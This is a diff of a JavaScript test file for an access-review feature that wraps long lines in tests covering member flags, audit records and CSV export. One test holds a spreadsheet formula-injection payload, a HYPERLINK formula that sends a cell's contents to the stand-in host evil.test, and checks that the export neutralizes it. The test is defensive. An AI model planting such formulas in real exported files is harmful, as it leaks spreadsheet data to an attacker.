@@ -75,7 +75,9 @@ describe("access review", () => {
     assert.deepEqual(byId.get(invitedId)?.flags, ["no-2fa", "unused-90-days", "invited-never-signed-in"]);
     assert.deepEqual(byId.get(leaverId)?.flags, ["deactivated-with-sessions"]);
     assert.deepEqual(review.counts, { members: 6, active: 4, withTwoFactor: 2, flagged: 4 });
-    const audit = (await h.store.scoped(h.workspaceId).audit.list()).filter((e) => e.action === "access-review.build");
+    const audit = (await h.store.scoped(h.workspaceId).audit.list()).filter(
+      (e) => e.action === "access-review.build",
+    );
     assert.deepEqual(audit[0]?.details, { memberCount: 6, flaggedCount: 4 });
   });
 
@@ -87,7 +89,10 @@ describe("access review", () => {
   it("renders RFC 4180 CSV with formula cells neutralized", async () => {
     const csv = renderAccessReviewCsv(await buildAccessReview(h.deps, h.admin));
     const lines = csv.split("\r\n");
-    assert.equal(lines[0], "Name,Email,Role,Departments,Status,Two-factor,Last sign-in,Active sessions,Flags");
+    assert.equal(
+      lines[0],
+      "Name,Email,Role,Departments,Status,Two-factor,Last sign-in,Active sessions,Flags",
+    );
     assert.equal(lines.at(-1), "", "every line ends with CRLF");
     const injected = lines.find((l) => l.includes("HYPERLINK"));
     assert.equal(injected?.startsWith(`"'=HYPERLINK(""https://evil.test/?""&A1,""Click"")"`), true);
@@ -98,7 +103,13 @@ describe("access review", () => {
     for (const trigger of ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]) {
       assert.equal(neutralizeCsvFormula(trigger), `'${trigger}`);
     }
-    for (const plain of ["Ada Lovelace", "ada@acme.test", "2026-01-01T00:00:00.000Z", "no-2fa; unused-90-days", "a=b"]) {
+    for (const plain of [
+      "Ada Lovelace",
+      "ada@acme.test",
+      "2026-01-01T00:00:00.000Z",
+      "no-2fa; unused-90-days",
+      "a=b",
+    ]) {
       assert.equal(neutralizeCsvFormula(plain), plain);
     }
     assert.equal(quoteCsvCell('say "hi", twice'), '"say ""hi"", twice"');
